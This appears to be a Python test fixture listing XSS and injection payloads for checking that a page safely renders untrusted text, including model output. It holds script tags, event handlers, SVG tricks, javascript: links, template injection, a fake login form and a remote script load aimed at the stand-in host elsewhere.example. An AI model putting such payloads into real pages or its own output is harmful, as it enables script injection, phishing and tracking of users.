"""PAYLOADS: what a person, a file or a model could say to run a script, to reach another site or to change the page.

Each is one line and short enough that the page shows it whole. One that runs sets `window.__pwned` or opens a dialog; one
that loads something asks `https://elsewhere.example` for it.
"""

from __future__ import annotations

ELSEWHERE = "https://elsewhere.example"

SCRIPTS = (
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
)
HANDLERS = (
    "<img src=x onerror=window.__pwned=1>",
    '"><img src=x onerror="window.__pwned=1">',
    "' autofocus onfocus='window.__pwned=1' x='",
    '" autofocus onfocus="window.__pwned=1" x="',
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>x</details>",
    "<video src=x onerror=window.__pwned=1></video>",
    "<input autofocus onfocus=window.__pwned=1>",
    '<p style="animation:spin 1s" onanimationstart=window.__pwned=1>x</p>',
)
DRAWINGS = (
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    '<svg><a href="javascript:window.__pwned=1"><text y=9>go</text></a></svg>',
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><!--</style><img src=x onerror=window.__pwned=1>",
)
LINKS = (
    '<a href="javascript:window.__pwned=1">link</a>',
    "javascript:window.__pwned=1",
    "[link](javascript:window.__pwned=1)",
    "![image](https://elsewhere.example/md.png)",
    "[link](https://elsewhere.example/)",
    "<https://elsewhere.example/auto>",
)
ELEMENTS = (
    "<style>@import url(https://elsewhere.example/x.css);body{display:none}</style>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
    "<base href=https://elsewhere.example/>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<iframe src=https://elsewhere.example/></iframe>",
    "<object data=https://elsewhere.example/x></object>",
    "<form action=https://elsewhere.example/><button>Log in</button></form>",
    "<img src=https://elsewhere.example/pixel.png>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "`${alert(1)}`",
    r"\u003cimg src=x onerror=window.__pwned=1\u003e",
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    r"$$\href{javascript:window.__pwned=1}{x}$$",
)
OTHERS = (
    '=HYPERLINK("https://elsewhere.example","x")',
    "\x1b]8;;https://elsewhere.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m",
    "invoice\u202egnp.exe \u2066aside\u2069",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *DRAWINGS, *LINKS, *ELEMENTS, *TEMPLATES, *OTHERS)
